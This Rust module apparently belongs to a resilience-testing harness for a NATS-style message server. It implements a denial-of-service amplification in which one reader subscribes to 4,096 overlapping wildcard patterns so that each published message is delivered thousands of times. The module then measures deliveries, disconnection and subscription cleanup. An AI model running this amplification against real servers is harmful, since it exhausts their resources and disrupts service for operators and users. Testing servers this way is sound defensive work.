//! The attack by overlapping wildcards: one reader subscribes to all 4,096 patterns that cover a subject of
//! 12 tokens, so the server delivers each message published to the subject 4,096 times. The reader reads as
//! fast as it can.

use std::io::Read as _;
use std::net::{Shutdown, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use super::{Deeds, Job, Strike, monitor, subscriptions};
use crate::wire::Wire;

const TOKENS: u32 = 12;
/// The number of subscriptions below which the attacker knows that the server has removed the subscriptions
/// of a client that left.
const FEW: u64 = 300;
const LOOK: Duration = Duration::from_millis(10);

pub(super) fn prepare(job: &Job, after: u64, until: Instant) -> anyhow::Result<Strike> {
    let mut left = None;
    if after > 0 {
        let mut many = job.wire()?;
        subscriptions::subscribe(&mut many, after, until)?;
        drop(many);
        left = still_there(job.http, until)?;
    }
    let mut reader = job.wire()?;
    let subscribe: String = (0..1_u32 << TOKENS)
        .map(|n| format!("SUB {} {n}\r\n", pattern(n)))
        .collect();
    reader.write(subscribe.as_bytes())?;
    reader.settle(until)?;
    let (publisher, messages) = (job.wire()?, job.amount);
    Ok(Box::new(move |until| {
        let deeds = strike(reader, publisher, messages, until)?;
        Ok(match left {
            None => deeds,
            Some(left) => deeds.put("subscriptions_left", left as f64),
        })
    }))
}

/// Waits, at most until `until`, for the server to remove the subscriptions of the client that left. Returns
/// the number of subscriptions that the server still has then; `None` if it has removed them.
fn still_there(http: SocketAddr, until: Instant) -> anyhow::Result<Option<u64>> {
    loop {
        let subscriptions = monitor::subscriptions_now(http, until)?;
        if subscriptions < FEW {
            return Ok(None);
        }
        if Instant::now() + LOOK >= until {
            return Ok(Some(subscriptions));
        }
        std::thread::sleep(LOOK);
    }
}

/// Returns the subject pattern of this number: token i is a wildcard if bit i of the number is set.
fn pattern(number: u32) -> String {
    let token = |bit| if number >> bit & 1 == 1 { "*" } else { "a" };
    let tokens: Vec<_> = (0..TOKENS).map(token).collect();
    tokens.join(".")
}

fn strike(
    reader: Wire,
    mut publisher: Wire,
    messages: u64,
    until: Instant,
) -> anyhow::Result<Deeds> {
    let wanted = messages << TOKENS;
    let lines = Arc::new(AtomicU64::new(0));
    let mut stream = reader.stream.try_clone()?;
    let seen = Arc::clone(&lines);
    let reading = std::thread::spawn(move || {
        let mut part = vec![0; 1 << 20];
        stream.set_read_timeout(None)?;
        loop {
            match stream.read(&mut part)? {
                0 => return Ok::<_, std::io::Error>(()),
                got => {
                    let ends = part[..got].iter().filter(|b| **b == b'\n').count();
                    seen.fetch_add(ends as u64, Ordering::Relaxed);
                }
            }
        }
    });
    let message = format!("PUB {} 2\r\nxx\r\n", pattern(0));
    let start = Instant::now();
    let sent = publisher.write(message.repeat(messages as usize).as_bytes());
    // The reader counts lines, and each delivery has two lines. The few other lines of the protocol do not
    // matter.
    let delivered = || lines.load(Ordering::Relaxed) / 2;
    while delivered() < wanted && Instant::now() < until && !reading.is_finished() {
        std::thread::sleep(LOOK);
    }
    let lasted = start.elapsed().as_secs_f64();
    let cut_off = reading.is_finished();
    // If the server has already disconnected the reader, the shutdown fails without harm.
    let _ = reader.stream.shutdown(Shutdown::Both);
    let _ = reading.join();
    let deeds = Deeds::default()
        .put("deliveries", delivered().min(wanted) as f64)
        .put("lasted_s", lasted);
    let short = |why: &str| format!("{why}: {} of {wanted} deliveries", delivered());
    Ok(match sent {
        Err(e) => deeds.note(short(&format!("the publisher failed, {e:#}"))),
        Ok(()) if delivered() >= wanted => deeds,
        Ok(()) if cut_off => deeds.note(short("the server cut the reader off")),
        Ok(()) => deeds.note(short("time is up")),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn patterns_have_every_combination_of_wildcards() {
        assert_eq!(pattern(0), "a.a.a.a.a.a.a.a.a.a.a.a");
        assert_eq!(pattern(0b101), "*.a.*.a.a.a.a.a.a.a.a.a");
        assert_eq!(pattern((1 << TOKENS) - 1), ["*"; 12].join("."));
    }
}
